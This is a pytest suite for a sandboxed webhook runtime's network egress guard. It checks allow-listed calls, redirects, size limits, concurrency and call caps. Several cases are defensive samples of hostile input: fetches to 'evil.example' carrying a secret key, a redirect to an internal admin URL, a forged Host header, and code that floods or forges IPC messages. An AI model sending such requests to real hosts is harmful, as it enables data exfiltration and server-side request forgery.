"""Functions that call other hosts: through the real pool, to real servers on this machine."""

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from hookmill.codec import Fetches
from hookmill.egress.guard import Egress
from processors.runtimes.contract import Outcome, Status
from processors.runtimes.pool import ProcessPool
from tests.processors.runtimes.languages import LANGUAGES, Twins, events, handlers, numbered, statuses

DEADLINE_S = 40.0
HOST = "api.example.com"
Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]


class Server:
    """`api.example.com` for these tests: says what it was asked, and how many asked at once."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self.at_once = self.most_at_once = 0
        self.hold: asyncio.Event | None = None
        """Answers wait for it."""
        self.asked = asyncio.Event()
        app = web.Application(client_max_size=2**24)
        app.router.add_route("*", "/{path:.*}", self._answer)
        self._server = TestServer(app, host="127.0.0.1")

    async def __aenter__(self) -> "Server":
        await self._server.start_server()
        return self

    async def __aexit__(self, *_: object) -> None:
        if self.hold is not None:
            self.hold.set()
        await self._server.close()

    @property
    def url(self) -> str:
        return f"http://{HOST}:{self._server.port}"

    @property
    def allow(self) -> tuple[str, ...]:
        return (self.url,)

    async def _answer(self, request: web.Request) -> web.StreamResponse:
        self.calls.append(f"{request.method} {request.path_qs}")
        body = (await request.read()).decode()
        self.at_once += 1
        self.most_at_once = max(self.most_at_once, self.at_once)
        self.asked.set()
        try:
            if self.hold is not None:
                await self.hold.wait()
            if request.path == "/big":
                return web.Response(body=bytes(5_000_000))
            if request.path == "/away":
                return web.Response(status=307, headers={"Location": "http://inside.example/admin?key=secret"})
            if request.path == "/moved":
                return web.Response(status=302, headers={"Location": "/there"})
            said = {"method": request.method, "type": request.headers.get("Content-Type"), "body": body}
            said["key"] = request.headers.get("X-Key")
            return web.json_response(said, status=201, headers={"X-Answer": "caf\u00e9"})
        finally:
            self.at_once -= 1


@pytest.fixture
async def server() -> AsyncIterator[Server]:
    async with Server() as running:
        yield running


def _everything_is_here(host: str, port: int) -> Sequence[Any]:
    return socket.getaddrinfo("127.0.0.1", port, type=socket.SOCK_STREAM)


@pytest.fixture
async def pool() -> AsyncIterator[ProcessPool]:
    egress = Egress(allow_private=True, lookup=_everything_is_here)
    async with ProcessPool(None, max_runners=2, idle_s=60, egress=egress) as running:
        yield running


async def run(pool: ProcessPool, function: Twins, language: str, server: Server, count: int = 1, **options: Any) -> Any:
    """Outcomes of webhooks with the bodies {"n": 0}, ...; `settings.api` is the address of the server."""
    options = {"timeout_ms": 10_000, "network": server.allow, "settings": {"api": server.url}} | options
    async with asyncio.timeout(DEADLINE_S):
        return await pool.run(function.code(language, **options), numbered(count))


def seen(outcome: Outcome) -> Any:
    """Properties of its one event."""
    assert outcome.status is Status.OK, outcome.error
    [event] = events(outcome)
    return event["properties"]


ASK = handlers(
    """
    const answer = await fetch(settings.api + '/a?b=c', {
      method: 'POST', headers: {'Content-Type': 'application/json', 'X-Key': 'k'}, body: JSON.stringify({n: 1}),
    })
    const properties = {status: answer.status, url: answer.url, name: answer.headers.get('x-answer').length}
    Segment.track({event: 'A', userId: '1', properties: {...properties, said: await answer.json()}})
    """,
    """
    answer = await segment.http.post(settings['api'] + '/a?b=c', json={'n': 1}, headers={'X-Key': 'k'})
    properties = {'status': answer.status, 'url': answer.url, 'name': len(answer.headers['X-Answer'])}
    segment.track(event='A', user_id='1', properties={**properties, 'said': answer.json()})
    """,
)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_function_calls_a_host_and_uses_the_answer(pool: ProcessPool, server: Server, language: str) -> None:
    [outcome] = await run(pool, ASK, language, server)

    properties = seen(outcome)
    said = properties.pop("said")
    assert properties == {"status": 201, "url": f"{server.url}/a?b=c", "name": 5}
    assert json.loads(said.pop("body")) == {"n": 1}
    assert said == {"method": "POST", "type": "application/json", "key": "k"}


@pytest.mark.parametrize("language", LANGUAGES)
async def test_calls_are_counted_in_the_outcome(pool: ProcessPool, server: Server, language: str) -> None:
    function = handlers(
        "for (let i = 0; i < request.json().n; i += 1) await fetch(settings.api + '/', {method: 'PUT', body: 'four'})",
        """
        for _ in range(request.json()['n']):
            await segment.http.request('PUT', settings['api'] + '/', body='four')
        """,
    )
    answer_bytes = len(json.dumps({"method": "PUT", "type": "text/plain;charset=UTF-8", "body": "four", "key": None}))
    if language == "python":
        answer_bytes = len(json.dumps({"method": "PUT", "type": None, "body": "four", "key": None}))

    outcomes = await run(pool, function, language, server, 3)

    assert statuses(outcomes) == ["ok"] * 3
    expected = [None, Fetches(1, 4 + answer_bytes), Fetches(2, 2 * (4 + answer_bytes))]
    assert [outcome.fetches for outcome in outcomes] == expected


@pytest.mark.parametrize("language", LANGUAGES)
async def test_redirect_is_followed(pool: ProcessPool, server: Server, language: str) -> None:
    function = handlers(
        """
        const answer = await fetch(settings.api + '/moved')
        Segment.track({event: 'A', userId: '1', properties: {url: answer.url}})
        """,
        """
        answer = await segment.http.get(settings['api'] + '/moved')
        segment.track(event='A', user_id='1', properties={'url': answer.url})
        """,
    )

    [outcome] = await run(pool, function, language, server)

    assert seen(outcome) == {"url": f"{server.url}/there"}
    assert server.calls == ["GET /moved", "GET /there"]


CATCH = handlers(
    """
    const {path, body = '', headers = {}} = settings
    const method = body ? 'POST' : 'GET'
    try {
      await fetch(path.startsWith('/') ? settings.api + path : path, {method, headers, body: body || undefined})
    } catch (error) {
      Segment.track({event: 'A', userId: '1', properties: {class: error.name, message: error.message}})
    }
    """,
    """
    path, body, headers = settings['path'], settings.get('body', ''), settings.get('headers', {})
    url = settings['api'] + path if path.startswith('/') else path
    try:
        await segment.http.request('POST' if body else 'GET', url, body=body, headers=headers)
    except segment.FetchError as error:
        properties = {'class': type(error).__name__, 'message': str(error)}
        segment.track(event='A', user_id='1', properties=properties)
    """,
)
"""Says why its call was refused."""


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (
            {"path": "https://evil.example/a?key=secret"},
            "https://evil.example is not allowed: [network] allow of the source does not name it.",
        ),
        (
            {"path": "/away"},
            "http://inside.example is not allowed: [network] allow of the source does not name it.",
        ),
        ({"path": "/big"}, "api.example.com answers with more than 4194304 bytes."),
        (
            {"path": "/", "body": "x" * 1_048_577},
            "A request body of 1048577 bytes exceeds the limit of 1048576 bytes.",
        ),
        (
            {"path": "/", "headers": {"X": "x" * 70_000}},
            "The URL and the headers of a request exceed the limit of 60000 bytes.",
        ),
        ({"path": "/", "headers": {"Host": "evil.example"}}, "The header Host cannot be set."),
    ],
    ids=["host", "redirect", "big answer", "big request", "big headers", "host header"],
)
async def test_refusal_is_told_to_the_function_in_clear_words(
    pool: ProcessPool, server: Server, language: str, settings: dict[str, Any], message: str
) -> None:
    [outcome] = await run(pool, CATCH, language, server, settings=settings | {"api": server.url})

    told = seen(outcome)
    assert told["class"] == "FetchError"
    assert told["message"].lower() == message.lower()  # Headers of JavaScript know no upper case


@pytest.mark.parametrize("language", LANGUAGES)
async def test_uncaught_refusal_is_an_error_of_the_function_at_its_line(
    pool: ProcessPool, server: Server, language: str
) -> None:
    function = handlers(
        "// line 2\nawait fetch('http://evil.example/')", "# line 2\nawait segment.http.get('http://evil.example/')"
    )

    [outcome] = await run(pool, function, language, server)

    assert outcome.status is Status.ERROR
    assert outcome.error is not None
    assert (outcome.error.kind, outcome.error.line) == ("FetchError", 3)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_without_hosts_the_network_is_off_and_the_setting_is_named(
    pool: ProcessPool, server: Server, language: str
) -> None:
    [outcome] = await run(pool, ASK, language, server, network=())

    assert outcome.status is Status.ERROR
    assert outcome.error is not None
    assert '[network] allow = ["api.example.com"]' in outcome.error.message
    assert server.calls == []


@pytest.mark.parametrize("language", LANGUAGES)
async def test_calls_of_one_invocation_run_side_by_side_eight_at_a_time(
    pool: ProcessPool, server: Server, language: str
) -> None:
    function = handlers(
        """
        const answers = await Promise.all(Array.from({length: 20}, (_, i) => fetch(settings.api + '/' + i)))
        Segment.track({event: 'A', userId: '1', properties: {answers: answers.map((a) => new URL(a.url).pathname)}})
        """,
        """
        import asyncio
        answers = await asyncio.gather(*(segment.http.get(f"{settings['api']}/{i}") for i in range(20)))
        paths = ['/' + a.url.rsplit('/')[-1] for a in answers]
        segment.track(event='A', user_id='1', properties={'answers': paths})
        """,
    )
    server.hold = asyncio.Event()
    running = asyncio.create_task(run(pool, function, language, server))
    async with asyncio.timeout(DEADLINE_S):
        while server.at_once < 8:
            server.asked.clear()
            await server.asked.wait()
    server.hold.set()

    [outcome] = await running

    assert seen(outcome) == {"answers": [f"/{i}" for i in range(20)]}
    assert server.most_at_once == 8


@pytest.mark.parametrize("language", LANGUAGES)
async def test_invocation_may_make_fifty_calls(pool: ProcessPool, server: Server, language: str) -> None:
    function = handlers(
        """
        for (let i = 0; i < request.json().n + 50; i += 1) await fetch(settings.api)
        """,
        """
        for _ in range(request.json()['n'] + 50):
            await segment.http.get(settings['api'])
        """,
    )

    inside, over = await run(pool, function, language, server, 2)

    assert inside.status is Status.OK
    assert over.status is Status.ERROR
    assert over.error is not None
    assert over.error.message == "An invocation may make 50 calls."
    assert len(server.calls) == 100


@pytest.mark.parametrize("language", LANGUAGES)
async def test_host_that_does_not_answer_costs_only_its_own_invocation(
    pool: ProcessPool, server: Server, language: str
) -> None:
    function = handlers(
        "if (request.json().n === 1) await fetch(settings.api); else Segment.track({event: 'A', userId: '1'})",
        """
        if request.json()['n'] == 1: await segment.http.get(settings['api'])
        else: segment.track(event='A', user_id='1')
        """,
    )
    server.hold = asyncio.Event()

    outcomes = await run(pool, function, language, server, 4, timeout_ms=2_000)

    assert statuses(outcomes) == ["ok", "timeout", "ok", "ok"]


@pytest.mark.parametrize("language", LANGUAGES)
async def test_call_nobody_waits_for_does_not_disturb_what_comes_after(
    pool: ProcessPool, server: Server, language: str
) -> None:
    """Every invocation leaves eight calls behind, all there is room for: the next ones still get through."""
    function = handlers(
        """
        for (let i = 0; i < 8; i += 1) fetch(settings.api + '/left').catch(() => {})
        const answer = await Promise.race([fetch(settings.api), new Promise((done) => setTimeout(done, 5))])
        Segment.track({event: 'A', userId: '1'})
        """,
        """
        import asyncio
        left = [asyncio.create_task(segment.http.get(settings['api'] + '/left')) for _ in range(8)]
        await asyncio.sleep(0.005)
        segment.track(event='A', user_id='1')
        """,
    )
    first = await run(pool, function, language, server, 5)
    second = await run(pool, ASK, language, server, 1)

    assert statuses(first) == ["ok"] * 5
    assert statuses(second) == ["ok"]


@pytest.mark.parametrize("language", LANGUAGES)
async def test_runner_that_is_killed_takes_its_calls_along(pool: ProcessPool, server: Server, language: str) -> None:
    function = handlers("await fetch(settings.api)", "await segment.http.get(settings['api'])")
    server.hold = asyncio.Event()
    running = asyncio.create_task(run(pool, function, language, server))
    async with asyncio.timeout(DEADLINE_S):
        await server.asked.wait()

    await pool.__aexit__()

    assert statuses(await running) == ["infra"]
    assert not [task for task in asyncio.all_tasks() if task.get_name() == "fetch"]


async def test_call_at_the_top_level_is_refused(pool: ProcessPool, server: Server) -> None:
    code = Twins(
        "", "import asyncio\nasyncio.get_event_loop().run_until_complete(segment.http.get('http://a.example'))"
    )

    error = await pool.check(code.code("python", network=server.allow))

    assert error is not None
    assert "outside of on_request" in error.message


@pytest.mark.parametrize("language", LANGUAGES)
async def test_host_list_that_cannot_be_read_is_the_functions_fault(
    pool: ProcessPool, server: Server, language: str
) -> None:
    [outcome] = await run(pool, ASK, language, server, network=("not a host",))

    assert outcome.status is Status.REJECTED
    assert outcome.error is not None
    assert '"not a host" is no host' in outcome.error.message


FLOOD = """
import json, os, struct
def on_request(request, settings):
    head = {'index': 0, 'method': 'GET', 'url': settings['api'], 'headers': [], 'redirect': 'follow'}
    for number in range(10_000):
        line = json.dumps(head | {'id': number}).encode() + b'\\n'
        os.write(3, struct.pack('<IB', len(line) + 1, 8) + line)
"""


async def test_runner_that_floods_the_pool_with_calls_is_ended(pool: ProcessPool, server: Server) -> None:
    server.hold = asyncio.Event()

    [outcome] = await run(pool, Twins("", FLOOD), "python", server)

    assert outcome.status is Status.CRASH
    assert server.most_at_once <= 8


@pytest.mark.parametrize(
    "line",
    [
        "{}",
        "not json",
        '{"id":1,"index":0,"method":"GET","url":1,"headers":[],"redirect":"follow"}',
        '{"id":1,"index":0,"method":"GET","url":"http://a.example","headers":[["a"]],"redirect":"follow"}',
        "x" * 2_000_000,
    ],
    ids=["empty", "no json", "wrong type", "wrong header", "too large"],
)
async def test_forged_call_costs_the_forger_only(pool: ProcessPool, server: Server, line: str) -> None:
    forger = Twins(
        "",
        """
        import os, struct
        def on_request(request, settings):
            line = settings['line'].encode() + b'\\n'
            rest = struct.pack('<IB', len(line) + 1, 8) + line
            while rest:
                rest = rest[os.write(3, rest):]
            while True: pass
        """,
    )

    [forged] = await run(pool, forger, "python", server, settings={"line": line}, timeout_ms=5_000)
    [outcome] = await run(pool, ASK, "python", server)

    assert forged.status is Status.CRASH
    assert outcome.status is Status.OK
